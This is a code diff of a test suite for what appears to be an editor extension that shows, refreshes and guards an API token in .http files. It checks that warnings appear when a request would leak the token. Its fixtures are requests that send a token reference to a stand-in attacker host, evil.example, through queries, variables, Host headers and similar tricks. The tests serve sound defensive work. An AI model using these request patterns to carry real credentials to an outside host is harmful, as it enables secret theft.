@@ -4,27 +4,26 @@ import { join } from 'node:path';
 import { setTimeout as wait } from 'node:timers/promises';
 import { until } from '../host/until';
 import { workbench } from '../host/workbench';
-import { call, setSetting } from './bench';
+import { call } from './bench';
 import {
   decorations,
   openUntitled,
   reference,
   replaceText,
   untilDecorated,
-  untilPublished,
-  untilWithdrawn,
   useOutletFile,
-  variable,
 } from './httpFilesBench';
-
-const path = '/integrations/partner/v1/linked-outlets';
 
 describe('an open .http file', () => {
   const { bench, text } = useOutletFile();
 
   before(async () => {
     // A setting of an extension that is not installed cannot be written by the editor.
-    const variables = { $shared: { evil: 'https://evil.example', indirect: 'GOBIZ_OUTLET_TOKEN' } };
+    const variables = {
+      $shared: { evil: 'https://evil.example', indirect: 'GOBIZ_OUTLET_TOKEN' },
+      here: { host: bench.sandbox.gobiz.url },
+      there: { host: 'https://evil.example' },
+    };
     await mkdir(join(workbench.folder, '.vscode'), { recursive: true });
     await workbench.writeFile(
       '.vscode/settings.json',
@@ -34,94 +33,99 @@ describe('an open .http file', () => {
   });
   after(async () => {
     await workbench.removeFile('.vscode/settings.json');
-    await workbench.removeFile('.env');
     await workbench.reload();
   });
   afterEach(() => bench.sandbox.setLifetime(3600));
 
-  it('publishes a live token, shows it masked, and withdraws it when it is closed', async () => {
-    await workbench.host.run(() => {
-      process.env['GOBIZ_OUTLET_TOKEN'] = 'before';
-    });
+  it('shows the live token, masked', async () => {
     await workbench.driver.openFile('outlets.http');
-    await until(async () => (await variable()) !== 'before');
-    const token = (await variable()) ?? '';
+    await untilDecorated(/until/);
+    await call('copyToken', 'outlet');
+    const token = await workbench.driver.clipboard();
+    assert.match(token, /^sbx_/);
     await untilDecorated(new RegExp(`^${token.slice(0, 4)}…${token.slice(-4)} · until \\d\\d:\\d\\d$`));
-    await workbench.driver.closeEverything();
-    await until(async () => (await variable()) === 'before');
-    await workbench.host.run(() => {
-      delete process.env['GOBIZ_OUTLET_TOKEN'];
-    });
   });
 
-  it('keeps a token of 5 seconds alive at each of 100 sends', async () => {
+  it('has a valid token of 5 seconds at each of 100 looks, while it is visible', async () => {
     bench.sandbox.setLifetime(5);
     await workbench.driver.openFile('outlets.http');
-    await untilPublished();
-    const statuses: number[] = [];
-    for (let send = 0; send < 100; send++) {
-      const headers = { authorization: `Bearer ${await variable()}` };
-      statuses.push((await fetch(`${bench.sandbox.gobiz.url}${path}`, { headers })).status);
+    await untilDecorated(/until|expires/);
+    const seen: string[] = [];
+    for (let look = 0; look < 100; look++) {
+      seen.push(...(await decorations()));
       await wait(100);
     }
-    assert.deepEqual(new Set(statuses), new Set([200]));
+    assert.deepEqual(
+      seen.filter((text) => /expired|no token/.test(text)),
+      [],
+    );
   });
 
-  it('withdraws a forgotten token and does not fetch it again by itself', async () => {
+  it('has no token refreshed while it is behind another tab', async () => {
+    bench.sandbox.setLifetime(5);
     await workbench.driver.openFile('outlets.http');
-    await untilPublished();
+    await untilDecorated(/until|expires/);
+    await openUntitled('GET https://h.example\n');
+    await wait(500);
+    const requests = bench.tokenRequests();
+    await wait(8000);
+    assert.equal(bench.tokenRequests(), requests);
+    await workbench.host.run((vscode) =>
+      vscode.commands.executeCommand('workbench.action.revertAndCloseActiveEditor'),
+    );
+    await until(async () => bench.tokenRequests() > requests);
+  });
+
+  it('does not fetch a forgotten token again by itself', async () => {
+    await workbench.driver.openFile('outlets.http');
+    await untilDecorated(/until/);
     const requests = bench.tokenRequests();
     await call('forgetToken', 'outlet');
-    assert.equal(await variable(), null);
     await untilDecorated(/^no token yet$/);
     await wait(500);
     assert.equal(bench.tokenRequests(), requests);
   });
 
-  it('publishes only while sending, where that is set', async () => {
-    await setSetting('publish', 'whileSending');
-    await workbench.driver.openFile('outlets.http');
-    await untilDecorated(/until/);
-    assert.equal(await variable(), null);
-  });
-
-  const hostile: readonly [name: string, text: (url: string) => string][] = [
+  const blocked: readonly [name: string, text: (url: string) => string][] = [
     ['another host', () => `GET https://evil.example/?t=${reference}\n`],
     ['a host by file variable', () => `@host = https://evil.example\nGET {{host}}/\nX: ${reference}\n`],
     ['a host by environment', () => `GET {{evil}}/\nX: ${reference}\n`],
-    ['a host by .env', () => `GET {{$dotenv EVIL}}/\nX: ${reference}\n`],
-    ['a host that nobody knows', () => `GET {{nobody}}/\nX: ${reference}\n`],
-    ['a Host header', (url) => `GET ${url}/\nHost: evil.example\nX: ${reference}\n`],
-    ['a second URL on the line', (url) => `GET ${url}/ https://evil.example/\nX: ${reference}\n`],
-    ['user info', (url) => `GET ${url.replace('http://', 'https://x:')}@evil.example/\nX: ${reference}\n`],
-    ['a port', () => `GET https://evil.example:8443/\nX: ${reference}\n`],
-    ['a variable that holds it', () => `@t = ${reference}\nGET https://evil.example/?{{t}}\n`],
+    ['another port', () => `GET https://evil.example:8443/\nX: ${reference}\n`],
+    ['a variable that holds the reference', () => `@t = ${reference}\nGET https://evil.example/?{{t}}\n`],
     ['an indirect name', () => 'GET https://evil.example/?{{$processEnv %indirect}}\n'],
-    ['a script', (url) => `GET ${url}/\nX: {{process.env.GOBIZ_OUTLET_TOKEN}}\n`],
   ];
-  for (const [name, evil] of hostile) {
-    it(`withholds the token from everybody while a file uses it with ${name}`, async () => {
-      await workbench.writeFile('.env', 'EVIL=https://evil.example\n');
-      await workbench.driver.openFile('outlets.http');
-      await untilPublished();
-      await openUntitled('');
-      assert.ok(await variable());
-      assert.equal(await replaceText(evil(bench.sandbox.gobiz.url)), null);
-      await wait(300);
-      assert.equal(await variable(), null);
-      await workbench.driver.closeEverything();
-      await workbench.driver.openFile('outlets.http');
-      await untilPublished();
+  for (const [name, evil] of blocked) {
+    it(`says that Kunci will block a request with ${name}, and no more once the text is right`, async () => {
+      await openUntitled(evil(bench.sandbox.gobiz.url));
+      await until(async () =>
+        (await problems()).some((one) =>
+          /^evil\.example.* is not an allowed host of “outlet”\. Kunci/.test(one),
+        ),
+      );
+      await replaceText(text());
+      await until(async () => (await problems()).length === 0);
     });
   }
 
-  it('withholds it for Markdown too, and gives it back within the edit that mends the file', async () => {
-    await workbench.driver.openFile('outlets.http');
-    await untilPublished();
-    await openUntitled(`\`\`\`http\nGET https://evil.example/?${reference}\n\`\`\`\n`, 'markdown');
-    await untilWithdrawn();
-    assert.ok(await replaceText('nothing here'));
-  });
+  const unsure: readonly [name: string, text: (url: string) => string][] = [
+    ['a host of the environment', () => `GET {{host}}/\nX: ${reference}\n`],
+    ['a host that nobody knows', () => `GET {{nobody}}/\nX: ${reference}\n`],
+    ['a host by .env', () => `GET {{$dotenv EVIL}}/\nX: ${reference}\n`],
+    ['a Host header', (url) => `GET ${url}/\nHost: evil.example\nX: ${reference}\n`],
+    ['a client ID alone', () => 'GET https://evil.example/\nX: {{$processEnv GOBIZ_OUTLET_CLIENT_ID}}\n'],
+  ];
+  for (const [index, [name, text]] of unsure.entries()) {
+    it(`says nothing about a request with ${name}`, async () => {
+      // A name for each, as what was reported for the test before is still there for a moment.
+      const other = `GET https://h.example\nX: {{$processEnv GOBIZ_NOBODY${index}_TOKEN}}`;
+      await openUntitled(`${text(bench.sandbox.gobiz.url)}\n###\n${other}`);
+      await until(async () => (await problems()).some((one) => one.includes(`NOBODY${index}_`)));
+      assert.deepEqual(
+        (await problems()).filter((one) => one.includes('block')),
+        [],
+      );
+    });
+  }
 
   it('takes its client’s new name, also where it was edited after that was offered', async () => {
     const { driver } = workbench;
@@ -147,7 +151,7 @@ describe('an open .http file', () => {
     const many = Array.from({ length: 30 }, () => text()).join('\n');
     await workbench.writeFile('many.http', many);
     await workbench.driver.openFile('many.http');
-    await untilPublished();
+    await until(async () => (await decorations()).some((one) => one.includes('until')));
     await workbench.host.run(async (vscode) => {
       const editor = vscode.window.activeTextEditor;
       if (!editor) throw new Error('No editor is active.');
@@ -164,9 +168,14 @@ describe('an open .http file', () => {
       }
       editor.revealRange(new vscode.Range(0, 0, 0, 0), vscode.TextEditorRevealType.AtTop);
     });
-    await wait(1000);
-    const after = await decorations();
-    assert.ok(after.length > 3, after.join());
+    let after: readonly string[] = [];
+    // Done once two looks, further apart than any debounce, see the same.
+    await until(async () => {
+      const before = after;
+      await wait(1000);
+      after = await decorations();
+      return after.length > 3 && after.join() === before.join();
+    });
     await workbench.host.run(async (vscode) => {
       await vscode.window.activeTextEditor?.document.save();
       await vscode.commands.executeCommand('workbench.action.closeAllEditors');
@@ -179,3 +188,11 @@ describe('an open .http file', () => {
     assert.deepEqual(withoutTokens(await decorations()), withoutTokens(after));
   });
 });
+
+/** What is reported for the active document. */
+function problems(): Promise<readonly string[]> {
+  return workbench.host.run((vscode) => {
+    const uri = vscode.window.activeTextEditor?.document.uri;
+    return uri ? vscode.languages.getDiagnostics(uri).map(({ message }) => message) : [];
+  });
+}
